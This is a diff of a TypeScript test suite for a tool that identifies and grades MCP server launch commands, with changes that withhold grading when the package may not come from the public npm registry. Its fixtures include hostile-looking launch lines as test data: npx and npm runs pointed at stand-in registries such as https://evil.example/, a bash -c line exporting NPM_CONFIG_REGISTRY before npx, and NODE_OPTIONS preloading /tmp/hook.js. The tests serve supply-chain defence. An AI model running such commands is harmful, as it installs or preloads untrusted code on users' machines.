@@ -20,6 +20,26 @@ function unpinned(name: string, versionSpec: string | null, launcher = 'npx'): P
   }
 }
 
+/** A withheld identity (`withholding.ts`): named, no version or purl, `pinned` as written. */
+function withheldNpm(
+  name: string,
+  versionSpec: string | null,
+  pinnedAsWritten: boolean,
+  why: string,
+  launcher = 'npx'
+): PackageIdentity {
+  return {
+    ecosystem: 'npm',
+    name,
+    versionSpec,
+    version: null,
+    pinned: pinnedAsWritten,
+    purl: null,
+    launcher,
+    resolution: { status: 'n/a', message: `not graded: ${why}` }
+  }
+}
+
 function pinned(
   name: string,
   version: string,
@@ -120,21 +140,15 @@ const cases: Case[] = [
     expected: unpinned('mcp-thing', 'next')
   },
   {
-    source: 'synthetic: several --package values, the bin picks one',
-    command: 'npx',
-    args: ['-p', 'typescript', '-p', '@scope/srv@2.0.0', 'srv'],
-    expected: pinned('@scope/srv', '2.0.0', 'pkg:npm/%40scope/srv@2.0.0')
-  },
-  {
-    source: 'synthetic: options before the package',
+    source: 'synthetic: options before the package (all on the allow-list)',
     command: 'npx',
     args: [
       '-q',
       '--prefer-offline',
-      '--cache',
-      '/tmp/npm',
+      '--no-audit',
       '--loglevel',
       'error',
+      '--fetch-timeout=60000',
       '-y',
       'pkg@1.0.0'
     ],
@@ -301,7 +315,7 @@ describe('identifyServer: npm', () => {
     })
   })
 
-  it('notes that the Smithery CLI runs another server, without copying its key', () => {
+  it('withholds the Smithery CLI running another server (corpus), without copying its key', () => {
     const key = '59471dca-eaa5-b434-9445-34f22c775065'
     const r = identifyServer(
       commandEntry('cmd', [
@@ -315,9 +329,18 @@ describe('identifyServer: npm', () => {
         key
       ])
     )
-    expect(r.package).toEqual(unpinned('@smithery/cli', 'latest'))
-    expect(r.notes.join('\n')).toContain('@bunasQ/fs')
+    expect(r.package).toEqual(
+      withheldNpm(
+        '@smithery/cli',
+        'latest',
+        false,
+        '@smithery/cli runs another program or server named in its arguments, which is not what is graded'
+      )
+    )
     expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain(key)
+    // Without `run` it is the CLI itself.
+    const cli = identifyServer(commandEntry('npx', ['-y', '@smithery/cli@1.0.0', 'list']))
+    expect(cli.package).toEqual(pinned('@smithery/cli', '1.0.0', 'pkg:npm/%40smithery/cli@1.0.0'))
   })
 })
 
@@ -391,21 +414,16 @@ function otherRegistry(
   name: string,
   versionSpec: string | null,
   url: string,
+  setting: string,
   launcher = 'npx'
 ): PackageIdentity {
-  return {
-    ecosystem: 'npm',
+  return withheldNpm(
     name,
     versionSpec,
-    version: null,
-    pinned: false,
-    purl: null,
-    launcher,
-    resolution: {
-      status: 'n/a',
-      message: `installs from another registry (${url}): the package that runs is not the one on the public registry`
-    }
-  }
+    versionSpec !== null && /^\d/.test(versionSpec),
+    `${setting} installs packages from ${url}, not the public registry`,
+    launcher
+  )
 }
 
 describe('identifyServer: npm from another registry', () => {
@@ -418,13 +436,13 @@ describe('identifyServer: npm from another registry', () => {
     {
       source: 'review: npx --registry https://evil/ pkg@1.2.3',
       launch: { command: 'npx', args: ['--registry', 'https://evil/', 'pkg@1.2.3'] },
-      expected: otherRegistry('pkg', '1.2.3', 'https://evil/'),
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil/', '--registry'),
       setting: '--registry'
     },
     {
       source: 'synthetic: --registry=URL, unpinned',
       launch: { command: 'npx', args: ['-y', '--registry=https://npm.corp.example', 'pkg'] },
-      expected: otherRegistry('pkg', null, 'https://npm.corp.example/'),
+      expected: otherRegistry('pkg', null, 'https://npm.corp.example/', '--registry'),
       setting: '--registry'
     },
     {
@@ -433,7 +451,12 @@ describe('identifyServer: npm from another registry', () => {
         command: 'npx',
         args: ['--@acme:registry', 'https://npm.acme.example/', '@acme/mcp@2.0.0']
       },
-      expected: otherRegistry('@acme/mcp', '2.0.0', 'https://npm.acme.example/'),
+      expected: otherRegistry(
+        '@acme/mcp',
+        '2.0.0',
+        'https://npm.acme.example/',
+        '--@acme:registry'
+      ),
       setting: '--@acme:registry'
     },
     {
@@ -442,7 +465,7 @@ describe('identifyServer: npm from another registry', () => {
         command: 'npm',
         args: ['--registry', 'https://evil.example/', 'exec', '--', 'pkg@1.0.0']
       },
-      expected: otherRegistry('pkg', '1.0.0', 'https://evil.example/', 'npm exec'),
+      expected: otherRegistry('pkg', '1.0.0', 'https://evil.example/', '--registry', 'npm exec'),
       setting: '--registry'
     },
     {
@@ -452,7 +475,12 @@ describe('identifyServer: npm from another registry', () => {
         args: ['-y', 'pkg@1.2.3'],
         env: { npm_config_registry: 'https://evil.example/npm/' }
       },
-      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/npm/'),
+      expected: otherRegistry(
+        'pkg',
+        '1.2.3',
+        'https://evil.example/npm/',
+        'env npm_config_registry'
+      ),
       setting: 'env npm_config_registry'
     },
     {
@@ -462,7 +490,13 @@ describe('identifyServer: npm from another registry', () => {
         args: ['dlx', 'pkg@1.2.3'],
         env: { NPM_CONFIG_REGISTRY: 'https://evil.example' }
       },
-      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/', 'pnpm dlx'),
+      expected: otherRegistry(
+        'pkg',
+        '1.2.3',
+        'https://evil.example/',
+        'env NPM_CONFIG_REGISTRY',
+        'pnpm dlx'
+      ),
       setting: 'env NPM_CONFIG_REGISTRY'
     },
     {
@@ -471,13 +505,13 @@ describe('identifyServer: npm from another registry', () => {
         command: 'bash',
         args: ['-c', 'export NPM_CONFIG_REGISTRY=https://evil.example/ && npx -y pkg@1.2.3']
       },
-      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/'),
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/', 'env NPM_CONFIG_REGISTRY'),
       setting: 'env NPM_CONFIG_REGISTRY'
     },
     {
       source: 'synthetic: the registry set before a command line written into `command`',
       launch: { command: 'npm_config_registry=https://evil.example/ npx -y pkg@1.2.3' },
-      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/'),
+      expected: otherRegistry('pkg', '1.2.3', 'https://evil.example/', 'env npm_config_registry'),
       setting: 'env npm_config_registry'
     },
     {
@@ -486,7 +520,7 @@ describe('identifyServer: npm from another registry', () => {
         command: 'npx',
         args: ['--registry', 'https://evil.example/', 'mcp-remote@0.1.38', 'https://mcp.example/']
       },
-      expected: otherRegistry('mcp-remote', '0.1.38', 'https://evil.example/'),
+      expected: otherRegistry('mcp-remote', '0.1.38', 'https://evil.example/', '--registry'),
       setting: '--registry'
     },
     {
@@ -496,7 +530,13 @@ describe('identifyServer: npm from another registry', () => {
         args: ['run', 'npm:pkg@1.0.0'],
         env: { NPM_CONFIG_REGISTRY: 'https://evil.example/' }
       },
-      expected: otherRegistry('pkg', '1.0.0', 'https://evil.example/', 'deno'),
+      expected: otherRegistry(
+        'pkg',
+        '1.0.0',
+        'https://evil.example/',
+        'env NPM_CONFIG_REGISTRY',
+        'deno'
+      ),
       setting: 'env NPM_CONFIG_REGISTRY'
     }
   ])('$source', ({ launch, expected, setting }) => {
@@ -514,10 +554,10 @@ describe('identifyServer: npm from another registry', () => {
       const r = identifyServer(
         entry({ command: 'npx', args: ['-y', 'pkg@1.2.3'], env: { [key]: 'not-a-real-token' } })
       )
-      expect(r.package).toMatchObject({ version: null, purl: null, pinned: false })
+      expect(r.package).toMatchObject({ version: null, purl: null, pinned: true })
       expect(r.package.resolution).toEqual({
         status: 'n/a',
-        message: `uses credentials for a private registry (env ${key}): the package that runs may not be the one on the public registry`
+        message: `not graded: env ${key} sets credentials for a private registry, so the package may not come from the public registry`
       })
       expect(JSON.stringify(r.package) + r.notes.join('\n')).not.toContain('not-a-real-token')
     }
@@ -558,7 +598,7 @@ describe('identifyServer: npm from another registry', () => {
       })
     )
     expect(r.package.resolution.message).toBe(
-      'installs from another registry (https://npm-proxy.fury.io/…/acme/): the package that runs is not the one on the public registry'
+      'not graded: --registry installs packages from https://npm-proxy.fury.io/…/acme/, not the public registry'
     )
     const text = JSON.stringify(r.package) + r.notes.join('\n')
     for (const secret of [token, 's3cretpw', 'q1w2e3']) expect(text).not.toContain(secret)
@@ -573,7 +613,7 @@ describe('identifyServer: npm from another registry', () => {
       })
     )
     expect(r.package.resolution.message).toBe(
-      'installs from another registry (a location that is not a URL (a variable or a local path)): the package that runs is not the one on the public registry'
+      'not graded: env npm_config_registry installs packages from a location that is not a URL (a variable or a local path), not the public registry'
     )
   })
 
@@ -587,7 +627,7 @@ describe('identifyServer: npm from another registry', () => {
     })
   })
 
-  it('notes another npm user config file, and NODE_OPTIONS that preload code', () => {
+  it('withholds another npm user config file and NODE_OPTIONS that preload code (review: c1)', () => {
     const r = identifyServer(
       entry({
         command: 'npx',
@@ -595,12 +635,16 @@ describe('identifyServer: npm from another registry', () => {
         env: { NODE_OPTIONS: '--max-old-space-size=4096 --require=/tmp/hook.js --import ./x.mjs' }
       })
     )
-    expect(r.package).toEqual(pinned('pkg', '1.2.3', 'pkg:npm/pkg@1.2.3'))
-    expect(r.notes).toContain(
-      'npm settings are read from another user config file, which can change the registry'
+    expect(r.package).toEqual(
+      withheldNpm(
+        'pkg',
+        '1.2.3',
+        true,
+        '--userconfig is a launcher option not known to leave the package and its source alone (and 1 more, see the notes)'
+      )
     )
     expect(r.notes).toContain(
-      'NODE_OPTIONS preloads code (--require, --import): it runs inside every Node.js process the server starts, and is not part of what is graded'
+      'env NODE_OPTIONS sets Node.js options not known to leave the program alone (--require, --import): what runs may not be pkg, so it is not graded'
     )
     expect(r.notes.join('\n')).not.toContain('hook.js')
     // Corpus (anthropics/claude-code): a memory limit preloads nothing.
@@ -611,6 +655,7 @@ describe('identifyServer: npm from another registry', () => {
         env: { NODE_OPTIONS: '--max-old-space-size=4096' }
       })
     )
+    expect(plain.package).toEqual(pinned('pkg', '1.2.3', 'pkg:npm/pkg@1.2.3'))
     expect(plain.notes.join('\n')).not.toContain('NODE_OPTIONS')
   })
 })
